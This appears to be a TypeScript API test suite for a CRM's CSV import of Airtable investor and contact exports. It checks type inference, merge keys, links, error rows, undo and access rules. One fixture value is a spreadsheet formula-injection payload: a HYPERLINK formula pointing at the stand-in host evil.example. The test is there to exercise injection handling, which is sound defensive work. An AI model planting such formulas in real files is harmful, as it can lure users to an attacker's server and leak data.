import { type RecordedEvent } from '@crm/events';
import { apiSuite } from '../support/api-suite';
import { baseIds, createMember } from '../support/test-app';
import { commitOk, fixture, tableRecords, upload, uploadOk } from '../support/imports';

describe('CSV import from Airtable', () => {
  const t = apiSuite();
  let ids: Awaited<ReturnType<typeof baseIds>>;
  beforeAll(async () => {
    ids = await baseIds(t);
  });

  const eventsOf = (correlationId: string): RecordedEvent[] =>
    t.core.store.readAll().filter((e) => e.metadata.correlation_id === correlationId);
  let firstImport: { id: string; correlation_id: string };

  it('previews a realistic investor list with each column’s type, confidence and samples', async () => {
    const res = await upload(t, fixture('airtable-investors.csv'), {
      table_id: ids.investors,
    }).expect(201);
    const col = (name: string) => res.body.columns.find((c: { name: string }) => c.name === name);
    expect(res.body).toMatchObject({
      status: 'planned',
      rows: 5,
      encoding: 'utf-8',
      delimiter: ',',
      table_id: ids.investors,
    });
    expect(col('Anchor LP')).toMatchObject({
      inferred_type: 'checkbox',
      samples: ['checked'],
      target: { action: 'new', type: 'checkbox' },
    });
    expect(col('Target commitment')).toMatchObject({
      inferred_type: 'currency',
      confidence: 1,
      field_id: ids.inv('target_commitment'),
      target: { action: 'field', name: 'Target commitment' },
    });
    expect(col('Last contacted')).toMatchObject({
      inferred_type: 'date',
      format: { date_order: 'mdy' },
      field_id: ids.inv('last_contacted'),
    });
    expect(col('Next meeting')).toMatchObject({ inferred_type: 'date_time' });
    expect(col('Pitch deck')).toMatchObject({ inferred_type: 'attachment' });
    expect(col('Phone')).toMatchObject({
      inferred_type: 'phone',
      samples: expect.arrayContaining(['+44 20 7946 0958', '020 7946 0123']),
    });
    expect(col('Contacts (from Contacts)')).toMatchObject({
      inferred_type: 'text',
      notes: [expect.stringMatching(/lookup/)],
    });
    expect(col('Days since contact')).toMatchObject({
      inferred_type: 'number',
      notes: [expect.stringMatching(/2 formula error/)],
    });
    expect(col('Tags')).toMatchObject({
      field_id: ids.inv('tags'),
      target: { action: 'field', type: 'multiple_select' },
    });
    expect(res.body.plan).toMatchObject({
      create: 5,
      update: 0,
      unchanged: 0,
      errors: [],
      committable: true,
      new_choices: [{ field_id: ids.inv('tags'), choices: ['Special, terms'] }],
    });
    expect(res.body.plan.suggested_merge_fields).toMatchObject({ columns: ['Name'] });
    expect(res.body.progress).toEqual({ phase: 'planned', done: 5, total: 5 });
  });

  it('commits every row and cell as it was, as one batch from source import with provenance', async () => {
    const session = await uploadOk(t, fixture('airtable-investors.csv'), {
      table_id: ids.investors,
      merge_fields: '["Name"]',
    });
    // Co-investors name other rows of the same file: link them.
    await t
      .http()
      .patch(`/api/fundraising/imports/${session.id}`)
      .send({
        mapping: {
          'Co-investors': { new_field: { type: 'link', options: { table_id: ids.investors } } },
        },
      })
      .expect(200);
    const result = await commitOk(t, session.id);
    expect(result).toMatchObject({ created: 5, updated: 0, unchanged: 0, import_id: session.id });
    firstImport = { id: session.id, correlation_id: result.correlation_id };

    const { value, byName } = await tableRecords(t, ids.investors);
    expect(value('Acme Family Office', 'Target commitment')).toBe(5_000_000);
    expect(value('Acme Family Office', 'Anchor LP')).toBe(true);
    expect(value('Acme Family Office', 'Last contacted')).toBe('2026-01-31');
    expect(value('Acme Family Office', 'Next meeting')).toBe('2026-02-15T09:30:00.000Z');
    expect(value('Acme Family Office', 'Phone')).toBe('+44 20 7946 0958');
    expect(value('Smith, Jones & Co', 'Phone')).toBe('020 7946 0123');
    expect(value('Acme Family Office', 'Tags')).toEqual(['Warm intro', 'Anchor']);
    expect(value('Zeta Pension', 'Tags')).toEqual(['Re-up', 'Special, terms']);
    expect(value('Acme Family Office', 'Notes')).toBe(
      'Met at the AGM in London.\nWants quarterly reporting, "full transparency" and a seat on the LPAC.',
    );
    expect(value('Northwind Endowment', 'Notes')).toBe(
      "'- follow up after board meeting\n- send DDQ",
    );
    expect(value('Zeta Pension', 'Notes')).toBe('\tTab-led note');
    expect(value('Smith, Jones & Co', 'Pitch deck')).toEqual([
      { filename: 'Deck v2 (final).pdf', url: 'https://dl.airtable.com/.attachments/b2/deck.pdf' },
      { filename: 'Terms, signed.pdf', url: 'https://dl.airtable.com/.attachments/b3/terms.pdf' },
    ]);
    expect(value('Acme Family Office', 'Co-investors')).toEqual([
      byName('Smith, Jones & Co').id,
      byName('Northwind Endowment').id,
    ]);
    expect(value('Zeta Pension', 'Co-investors')).toEqual([byName('The "Best" Fund of Funds').id]);
    expect(value('Northwind Endowment', 'Days since contact') ?? null).toBeNull();
    expect(value('The "Best" Fund of Funds', 'Notes')).toBe(
      '=HYPERLINK("http://evil.example/?x","click")',
    );

    const events = eventsOf(result.correlation_id);
    expect(new Set(events.map((e) => e.metadata.source))).toEqual(new Set(['import']));
    expect(events.map((e) => e.type).filter((x, i, a) => a.indexOf(x) === i)).toEqual([
      'FieldAdded',
      'FieldRetyped',
      'RecordCreated',
    ]);
    const created = events
      .filter((e) => e.type === 'RecordCreated')
      .map((e) => (e.data as { provenance: unknown }).provenance);
    expect(created).toEqual(
      [2, 4, 5, 7, 8].map((line) => ({ import_id: session.id, file_name: 'investors.csv', line })),
    );
  });

  it('creates a new table from a file, with links between its own rows', async () => {
    const session = await uploadOk(t, fixture('airtable-investors.csv'), {
      new_table_name: 'LP copy',
      merge_fields: '["Name"]',
    });
    expect(session.columns[0].target).toMatchObject({ action: 'new', type: 'text', name: 'Name' });
    await t
      .http()
      .patch(`/api/fundraising/imports/${session.id}`)
      .send({
        mapping: {
          'Co-investors': { new_field: { type: 'link', options: { table_id: session.table_id } } },
        },
      })
      .expect(200);
    expect(await commitOk(t, session.id)).toMatchObject({ created: 5 });
    const copy = await tableRecords(t, session.table_id);
    expect(copy.table.fields.map((f) => f.name)).toEqual(
      session.columns.map((c: { name: string }) => c.name),
    );
    expect(copy.value('Acme Family Office', 'Co-investors')).toEqual([
      copy.byName('Smith, Jones & Co').id,
      copy.byName('Northwind Endowment').id,
    ]);
    expect(copy.value('Acme Family Office', 'Target commitment')).toBe(5_000_000);
    const views = (await t.http().get('/api/fundraising/state').expect(200)).body.views.filter(
      (v: { table_id: string }) => v.table_id === session.table_id,
    );
    expect(views).toEqual([
      expect.objectContaining({
        name: 'Grid view',
        config: expect.objectContaining({ default: true }),
      }),
    ]);
  });

  it('links a list column whose names are records of another table, and says what each confidence means', async () => {
    const fundName = ids.field('funds', 'fund.name');
    await t
      .http()
      .post('/api/fundraising/changes')
      .send({
        changes: ['Fund I', 'Fund II', 'Growth Fund III'].map((name) => ({
          op: 'create',
          table_id: ids.funds,
          values: { [fundName]: name },
        })),
      })
      .expect(200);
    const file = Buffer.from(
      [
        'Name,Funds,Website',
        'Deal 1,"Fund I,Fund II",https://a.example',
        'Deal 2,Growth Fund III,https://b.example',
        'Deal 3,"Fund II,Growth Fund III",https://c.example',
        'Deal 4,Fund I,https://d.example',
      ].join('\r\n'),
    );
    const session = await uploadOk(t, file, { new_table_name: 'Deals' }, 'Deals.csv');
    const col = (name: string) => session.columns.find((c: { name: string }) => c.name === name);
    expect(col('Funds')).toMatchObject({
      inferred_type: 'multiple_select',
      target: { action: 'new', type: 'link', options: { table_id: ids.funds } },
    });
    expect(col('Funds').notes).toContain(
      'the names are records of “Funds”: imported as links to them',
    );
    expect(col('Website')).toMatchObject({
      inferred_type: 'url',
      confidence: 0.93,
      confidence_reason: 'all 4 values look like web addresses; few values to go by (93% sure)',
    });
    expect(session.plan).toMatchObject({ create: 4, errors: [] });
    await commitOk(t, session.id);
    const deals = await tableRecords(t, session.table_id);
    const funds = await tableRecords(t, ids.funds);
    expect(deals.value('Deal 1', 'Funds')).toEqual([
      funds.byName('Fund I').id,
      funds.byName('Fund II').id,
    ]);
  });

  it('changes nothing when the same file is imported again with the same merge key', async () => {
    const session = await uploadOk(t, fixture('airtable-investors.csv'), {
      table_id: ids.investors,
      merge_fields: '["Name"]',
    });
    expect(session.plan).toMatchObject({ create: 0, update: 0, unchanged: 5 });
    const before = t.core.store.lastPosition();
    expect(await commitOk(t, session.id)).toMatchObject({ created: 0, updated: 0, unchanged: 5 });
    expect(t.core.store.lastPosition()).toBe(before);
  });

  it('applies only what an updated export changed, listing each field’s change first', async () => {
    const session = await uploadOk(t, fixture('airtable-investors-updated.csv'), {
      table_id: ids.investors,
      merge_fields: '["Name"]',
    });
    expect(session.plan).toMatchObject({ create: 1, update: 2, unchanged: 3 });
    expect(session.plan.updates).toEqual([
      expect.objectContaining({
        line: 2,
        record_name: 'Acme Family Office',
        changes: [expect.objectContaining({ field: 'Anchor LP', from: true, to: false })],
      }),
      expect.objectContaining({
        line: 4,
        record_name: 'Smith, Jones & Co',
        changes: [
          expect.objectContaining({ field: 'Pipeline stage', from: 'Diligence', to: 'Committed' }),
        ],
      }),
    ]);
    const result = await commitOk(t, session.id);
    expect(result).toMatchObject({ created: 1, updated: 2, unchanged: 3 });
    const updated = eventsOf(result.correlation_id).filter((e) => e.type === 'RecordUpdated');
    expect(
      updated.map((e) => (e.data as { provenance: { line: number } }).provenance.line),
    ).toEqual([2, 4]);
  });

  it('links contacts to investors by name, with commas and quotes, and creates unmatched ones on request', async () => {
    const session = await uploadOk(
      t,
      fixture('airtable-contacts.csv'),
      { table_id: ids.contacts, merge_fields: '["Email"]' },
      'contacts.csv',
    );
    expect(session.plan.unmatched_links).toEqual([
      {
        column: 'Investor',
        field_id: ids.field('contacts', 'contact.investor'),
        table_id: ids.investors,
        names: ['Nova Ventures, LP'],
      },
    ]);
    expect(session.plan).toMatchObject({ create: 3, rows_with_errors: 1, committable: false });
    await t.http().post(`/api/fundraising/imports/${session.id}/commit`).expect(400);
    const patched = await t
      .http()
      .patch(`/api/fundraising/imports/${session.id}`)
      .send({ options: { create_missing_links: true } })
      .expect(200);
    expect(patched.body.plan).toMatchObject({
      create: 4,
      link_creates: 1,
      errors: [],
      committable: true,
    });
    expect(await commitOk(t, session.id)).toMatchObject({ created: 5 });
    const inv = await tableRecords(t, ids.investors);
    const con = await tableRecords(t, ids.contacts);
    expect(con.value('Tom Smith', 'Investor')).toEqual([inv.byName('Smith, Jones & Co').id]);
    expect(con.value('Bea Best', 'Investor')).toEqual([
      inv.byName('The "Best" Fund of Funds').id,
      inv.byName('Acme Family Office').id,
    ]);
    expect(con.value('Nora New', 'Investor')).toEqual([inv.byName('Nova Ventures, LP').id]);
    expect(con.value('Tom Smith', 'Notes')).toBe('Prefers calls,\nnot email');
  });

  it('remaps columns, suggests a merge key, and re-plans', async () => {
    const session = await uploadOk(t, fixture('airtable-investors.csv'), {
      table_id: ids.investors,
    });
    expect(session.plan.suggested_merge_fields.columns).toEqual(['Name']);
    expect(session.plan.create).toBe(5);
    const res = await t
      .http()
      .patch(`/api/fundraising/imports/${session.id}`)
      .send({
        merge_fields: ['Name'],
        mapping: {
          Notes: 'skip',
          Email: { skip: true },
          'Days since contact': {
            field_id: t.core.repo
              .table(ids.investors)!
              .fields.find((f) => f.name === 'Days since contact')!.id,
          },
        },
      })
      .expect(200);
    expect(res.body.columns.find((c: { name: string }) => c.name === 'Notes').target).toEqual({
      action: 'skip',
    });
    expect(res.body.merge_fields).toEqual(['Name']);
    // The file still has Acme's box ticked and Smith, Jones & Co in diligence: the two cells the last import changed.
    expect(res.body.plan).toMatchObject({ create: 0, update: 2 });
    const bad = await t
      .http()
      .patch(`/api/fundraising/imports/${session.id}`)
      .send({ mapping: { Nope: 'skip' } })
      .expect(400);
    expect(bad.body.message).toMatch(/no column “Nope”/);
    await t
      .http()
      .patch(`/api/fundraising/imports/${session.id}`)
      .send({ mapping: { Type: { new_field: { type: 'created_time' } } } })
      .expect(400);
  });

  it('reports short and long rows by line, refuses to commit them, and offers the errors as CSV', async () => {
    const session = await uploadOk(
      t,
      fixture('ragged.csv'),
      { new_table_name: 'Ragged' },
      'ragged.csv',
    );
    expect(session.columns.map((c: { name: string }) => c.name)).toEqual([
      'Name',
      'Email',
      'Name (2)',
      'Column 4',
      'Stage',
    ]);
    expect(session.plan.errors).toEqual([
      { line: 3, column: null, message: 'has 2 values; the header has 5' },
      { line: 5, column: null, message: 'has 6 values; the header has 5' },
    ]);
    expect(session.plan).toMatchObject({
      create: 2,
      blank_rows: 1,
      rows_with_errors: 2,
      committable: false,
    });
    const refused = await t
      .http()
      .post(`/api/fundraising/imports/${session.id}/commit`)
      .expect(400);
    expect(refused.body.message).toMatch(/2 row\(s\) have errors/);
    const csv = await t.http().get(`/api/fundraising/imports/${session.id}/errors.csv`).expect(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    // Quoted for their semicolons, so that a spreadsheet that splits on them keeps each message whole.
    expect(csv.text).toBe(
      '\uFEFFline,column,message\r\n3,,"has 2 values; the header has 5"\r\n5,,"has 6 values; the header has 5"\r\n',
    );
    await t
      .http()
      .patch(`/api/fundraising/imports/${session.id}`)
      .send({ options: { skip_rows_with_errors: true } })
      .expect(200);
    expect(await commitOk(t, session.id)).toMatchObject({ created: 2, skipped_rows: 2 });
  });

  it('flags a column of mixed day-first and month-first dates until an order is chosen', async () => {
    const session = await uploadOk(
      t,
      fixture('mixed-dates.csv'),
      { new_table_name: 'Meetings' },
      'meetings.csv',
    );
    const met = session.columns.find((c: { name: string }) => c.name === 'Met');
    expect(met).toMatchObject({
      inferred_type: 'date',
      format: { date_order: null },
      date_ambiguity: {
        day_first: { value: '17/7/2026', line: 2 },
        month_first: { value: '7/20/2026', line: 3 },
      },
    });
    expect(session.plan.errors).toEqual([
      {
        line: null,
        column: 'Met',
        message: expect.stringMatching(/mixes day-first and month-first/),
      },
    ]);
    const asText = await t
      .http()
      .patch(`/api/fundraising/imports/${session.id}`)
      .send({ mapping: { Met: { new_field: { type: 'text' } } } })
      .expect(200);
    expect(asText.body.plan).toMatchObject({ errors: [], create: 3 });
    const dayFirst = await t
      .http()
      .patch(`/api/fundraising/imports/${session.id}`)
      .send({ mapping: { Met: { new_field: { type: 'date' }, date_order: 'dmy' } } })
      .expect(200);
    expect(dayFirst.body.plan.errors).toEqual([
      { line: 3, column: 'Met', message: '“7/20/2026” is not a date (read day first)' },
    ]);
  });

  it('undoes a whole import as one unit', async () => {
    const session = await uploadOk(t, fixture('airtable-investors.csv'), {
      new_table_name: 'Undo me',
    });
    const result = await commitOk(t, session.id);
    const undo = await t
      .http()
      .post('/api/fundraising/undo')
      .send({ correlation_id: result.correlation_id })
      .expect((r) => expect([200, 201]).toContain(r.status));
    expect(undo.body).toMatchObject({
      undone: result.correlation_id,
      reversed: expect.any(Number),
    });
    const live = [...t.core.repo.recordsOf(session.table_id)].filter((r) => !r.archived);
    expect(live).toHaveLength(0);
  });

  it('commits asynchronously on request, with progress to poll', async () => {
    const session = await uploadOk(t, fixture('airtable-investors.csv'), {
      new_table_name: 'Async LPs',
    });
    const started = await t
      .http()
      .post(`/api/fundraising/imports/${session.id}/commit`)
      .set('Prefer', 'respond-async')
      .expect(202);
    expect(started.body).toMatchObject({ id: session.id, status: 'committing' });
    let view = (await t.http().get(`/api/fundraising/imports/${session.id}`).expect(200)).body;
    for (let i = 0; i < 50 && view.status !== 'committed'; i++) {
      await new Promise((r) => setTimeout(r, 20));
      view = (await t.http().get(`/api/fundraising/imports/${session.id}`).expect(200)).body;
    }
    expect(view).toMatchObject({
      status: 'committed',
      progress: { phase: 'committed' },
      result: { created: 5 },
      correlation_id: expect.stringMatching(/^cor/),
    });
    // Committing again answers the same result and writes nothing.
    const before = t.core.store.lastPosition();
    expect(await commitOk(t, session.id)).toEqual(view.result);
    expect(t.core.store.lastPosition()).toBe(before);
  });

  it('refuses to commit a plan the table has moved away from, and hands back the new plan', async () => {
    const session = await uploadOk(t, fixture('airtable-investors-updated.csv'), {
      table_id: ids.investors,
      merge_fields: '["Name"]',
    });
    expect(session.plan.update).toBe(0);
    const rec = (await tableRecords(t, ids.investors)).byName('Zeta Pension');
    await t
      .http()
      .post('/api/fundraising/changes')
      .send({
        changes: [
          { op: 'set', record_id: rec.id, field_id: ids.inv('stage'), from: 'Passed', to: 'Lead' },
        ],
      })
      .expect(200);
    const res = await t.http().post(`/api/fundraising/imports/${session.id}/commit`).expect(409);
    expect(res.body.details.plan).toMatchObject({
      update: 1,
      updates: [
        expect.objectContaining({
          changes: [
            expect.objectContaining({ field_id: ids.inv('stage'), from: 'Lead', to: 'Passed' }),
          ],
        }),
      ],
    });
    expect(await commitOk(t, session.id)).toMatchObject({ updated: 1 });
  });

  it('keeps each import to the person who started it', async () => {
    const member = await createMember(t);
    const mine = await upload(
      t,
      fixture('mixed-dates.csv'),
      { new_table_name: 'Member table' },
      'm.csv',
      member.http(),
    ).expect(201);
    await t.http().get(`/api/fundraising/imports/${mine.body.id}`).expect(200);
    await member.http().get(`/api/fundraising/imports/${firstImport.id}`).expect(404);
    await member.http().post(`/api/fundraising/imports/${firstImport.id}/commit`).expect(404);
    await t.anon().get(`/api/fundraising/imports/${firstImport.id}`).expect(401);
  });

  it('validates the upload itself', async () => {
    await t.http().post('/api/fundraising/imports').send({ table_id: ids.investors }).expect(400);
    await upload(t, fixture('mixed-dates.csv'), {}).expect(400);
    await upload(t, fixture('mixed-dates.csv'), {
      table_id: ids.investors,
      new_table_name: 'Both',
    }).expect(400);
    await upload(t, fixture('mixed-dates.csv'), { table_id: 'tblNope' }).expect(404);
    await upload(t, fixture('mixed-dates.csv'), { new_table_name: 'Investors' }).expect(400);
    await upload(t, fixture('mixed-dates.csv'), {
      table_id: ids.investors,
      merge_fields: 'Name',
    }).expect(400);
    await upload(t, fixture('mixed-dates.csv'), {
      table_id: ids.investors,
      merge_fields: '["Nope"]',
    }).expect(400);
    await upload(t, fixture('mixed-dates.csv'), { table_id: ids.investors, role: 'admin' }).expect(
      400,
    );
  });
});

describe('suggesting a link for a list column, on a big base', () => {
  const t = apiSuite({ timeoutMs: 120_000 });
  beforeAll(async () => {
    const rows = Array.from(
      { length: 100_000 },
      (_, i) => `Company ${i + 1},c${i + 1}@firm.example,Met at the AGM; wants quarterly reporting`,
    );
    const session = await uploadOk(
      t,
      Buffer.from(['Name,Email,Notes', ...rows].join('\r\n')),
      { new_table_name: 'Companies' },
      'Companies.csv',
    );
    await commitOk(t, session.id);
  }, 120_000);

  it('reads no table’s records to find that a list of tags names none: a small file uploads about as fast as one without a list', async () => {
    const tags = ['Warm intro', 'Anchor', 'Family office', 'Re-up'];
    const fileOf = (join: string) =>
      Buffer.from(
        [
          'Deal,Tags',
          ...Array.from(
            { length: 50 },
            (_, i) => `Deal ${i},"${tags[i % 4]}${join}${tags[(i + 1) % 4]}"`,
          ),
        ].join('\r\n'),
      );
    const timed = async (file: Buffer, name: string) => {
      const started = performance.now();
      const session = await uploadOk(t, file, { new_table_name: name }, 'Deals.csv');
      return { session, ms: performance.now() - started };
    };
    await timed(fileOf(','), 'Warm-up');
    const plain = await timed(fileOf(' and '), 'Plain deals');
    const list = await timed(fileOf(','), 'Tagged deals');
    expect(plain.session.columns[1].inferred_type).not.toBe('multiple_select');
    expect(list.session.columns[1]).toMatchObject({
      inferred_type: 'multiple_select',
      target: { action: 'new', type: 'multiple_select' },
    });
    // Reading the 100,000 records of Companies took well over a second; looking the names up in SQLite, a scan, takes tens of milliseconds.
    expect(list.ms - plain.ms).toBeLessThan(400);
  });

  it('still finds the big table whose records a list names', async () => {
    const companies = t.core.repo.tables().find((x) => x.name === 'Companies')!;
    const rows = Array.from(
      { length: 50 },
      (_, i) => `Deal ${i},"Company ${i + 1},Company ${i + 20_001}"`,
    );
    const session = await uploadOk(
      t,
      Buffer.from(['Deal,Companies', ...rows].join('\r\n')),
      { new_table_name: 'Linked deals' },
      'Deals.csv',
    );
    expect(session.columns[1]).toMatchObject({
      inferred_type: 'multiple_select',
      target: { action: 'new', type: 'link', options: { table_id: companies.id } },
    });
    expect(session.plan).toMatchObject({ create: 50, errors: [] });
  });
});
